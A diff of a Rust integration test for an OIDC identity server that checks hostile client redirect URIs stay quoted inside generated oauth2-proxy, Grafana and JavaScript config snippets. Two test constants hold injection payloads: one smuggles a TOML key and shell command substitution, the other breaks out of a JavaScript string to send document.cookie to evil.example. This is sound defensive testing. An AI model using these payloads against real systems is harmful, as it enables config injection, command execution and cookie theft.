@@ -9,7 +9,8 @@ use serde_json::{Value, json};
 
 use crate::helpers::passkeys::{answer_registration, authenticator, post_json};
 use crate::helpers::{
-    POST_LOGOUT, REDIRECT, TestApp, csrf_of, register, signed_in_browser, spawn_app, unescape,
+    Backend, POST_LOGOUT, REDIRECT, TestApp, csrf_of, on_both_backends, register,
+    signed_in_browser, spawn_app, spawn_app_on_with, unescape,
 };
 
 /// A browser signed in as `userid` whose session was started by `user_agent`.
@@ -159,7 +160,7 @@ async fn the_client_page_shows_copy_ready_settings_for_the_integration_guides() 
         format!("--clientid='{}'", confidential.id),
         format!("--discoveryuri='{issuer}/.well-known/openid-configuration'"),
         "Forgejo / Gitea".to_owned(),
-        format!("--auto-discover-url {issuer}/.well-known/openid-configuration"),
+        format!("--auto-discover-url '{issuer}/.well-known/openid-configuration'"),
         "oauth2-proxy".to_owned(),
         format!(
             "oidc_issuer_url = \"{issuer}\"\nclient_id = \"{}\"",
@@ -184,6 +185,124 @@ async fn the_client_page_shows_copy_ready_settings_for_the_integration_guides() 
     assert!(!text.contains("<client_secret>"), "{text}");
     assert!(!text.contains("[auth.generic_oauth]"));
 }
+
+/// The copy-ready blocks of the admin client page, unescaped.
+fn snippets(html: &str) -> Vec<String> {
+    html.split("<pre><code>")
+        .skip(1)
+        .map(|rest| unescape(&rest[..rest.find("</code></pre>").unwrap()]))
+        .collect()
+}
+
+/// Redirect URIs an outsider may register (RFC 7591) that the URL parser
+/// takes (it drops newlines) but that end a quoted string in a snippet.
+const HOSTILE_REDIRECT: &str =
+    "https://app.example/cb?q=x\"\nemail_domains = [\"evil.example\"]\nz=\"$(touch /tmp/p)`id`\\";
+const HOSTILE_AFTER_LOGOUT: &str =
+    "https://app.example/out?a=\"});fetch(\"https://evil.example/\"+document.cookie);({\"";
+
+async fn a_hostile_redirect_uri_stays_inside_the_snippets_quotes(backend: Backend) {
+    let Some(app) = spawn_app_on_with(backend, |s| {
+        s.registration = latchkey::config::RegistrationMode::Open;
+    })
+    .await
+    else {
+        return;
+    };
+    let admin = app.create_admin("root").await;
+    let root = signed_in_browser(&app, &admin).await;
+    let mut ids = Vec::new();
+    for auth in ["client_secret_basic", "none"] {
+        let r = reqwest::Client::new()
+            .post(app.url("/register"))
+            .json(&json!({
+                "client_name": "Innocent App",
+                "redirect_uris": [HOSTILE_REDIRECT],
+                "post_logout_redirect_uris": [HOSTILE_AFTER_LOGOUT],
+                "token_endpoint_auth_method": auth,
+            }))
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(r.status(), 201, "{auth}");
+        let info: Value = r.json().await.unwrap();
+        ids.push(info["client_id"].as_str().unwrap().to_owned());
+    }
+
+    // oauth2-proxy's TOML: the URI is one string value, no key is added.
+    let html = page(&root, app.url(&format!("/admin/clients/{}", ids[0]))).await;
+    let blocks = snippets(&html);
+    let cfg = blocks
+        .iter()
+        .find(|b| b.starts_with("provider = \"oidc\""))
+        .unwrap_or_else(|| panic!("no oauth2-proxy block: {blocks:?}"));
+    let parsed: toml::Table =
+        toml::from_str(cfg).unwrap_or_else(|e| panic!("does not parse: {e}\n{cfg}"));
+    assert_eq!(
+        parsed["redirect_url"].as_str(),
+        Some(HOSTILE_REDIRECT),
+        "{cfg}"
+    );
+    assert_eq!(parsed["client_id"].as_str(), Some(ids[0].as_str()));
+    assert_eq!(
+        parsed["email_domains"].as_array().unwrap(),
+        &vec![toml::Value::from("*")],
+        "{cfg}"
+    );
+    let mut keys: Vec<&str> = parsed.keys().map(String::as_str).collect();
+    keys.sort_unstable();
+    assert_eq!(
+        keys,
+        [
+            "client_id",
+            "client_secret",
+            "code_challenge_method",
+            "email_domains",
+            "oidc_groups_claim",
+            "oidc_issuer_url",
+            "provider",
+            "redirect_url",
+            "scope"
+        ]
+    );
+    // Grafana's INI gets the post-logout URI percent-encoded on one line.
+    let grafana = blocks
+        .iter()
+        .find(|b| b.starts_with("[auth.generic_oauth]"))
+        .unwrap();
+    let signout = grafana
+        .lines()
+        .find(|l| l.starts_with("signout_redirect_url = "))
+        .unwrap();
+    let value = signout.strip_prefix("signout_redirect_url = ").unwrap();
+    assert!(
+        !value.contains([' ', '"', '\'', '(', '$', '`']),
+        "{signout}"
+    );
+
+    // The single-page app's JavaScript: each value one string literal.
+    let html = page(&root, app.url(&format!("/admin/clients/{}", ids[1]))).await;
+    let blocks = snippets(&html);
+    let spa = blocks
+        .iter()
+        .find(|b| b.starts_with("const auth = new UserManager({"))
+        .unwrap_or_else(|| panic!("no SPA block: {blocks:?}"));
+    assert_eq!(spa.lines().count(), 8, "one setting per line: {spa}");
+    let literal = |key: &str| -> String {
+        let line = spa
+            .lines()
+            .find_map(|l| l.strip_prefix(&format!("  {key}: ")))
+            .unwrap_or_else(|| panic!("no {key}: {spa}"));
+        let line = line.strip_suffix(',').unwrap_or(line);
+        serde_json::from_str(line)
+            .unwrap_or_else(|e| panic!("{key} is not one string ({e}): {spa}"))
+    };
+    assert_eq!(literal("redirect_uri"), HOSTILE_REDIRECT);
+    assert_eq!(literal("post_logout_redirect_uri"), HOSTILE_AFTER_LOGOUT);
+    assert_eq!(literal("client_id"), ids[1]);
+    assert_eq!(literal("authority"), app.base);
+}
+on_both_backends!(a_hostile_redirect_uri_stays_inside_the_snippets_quotes);
 
 #[tokio::test]
 async fn unknown_paths_get_the_error_page_and_api_paths_json() {
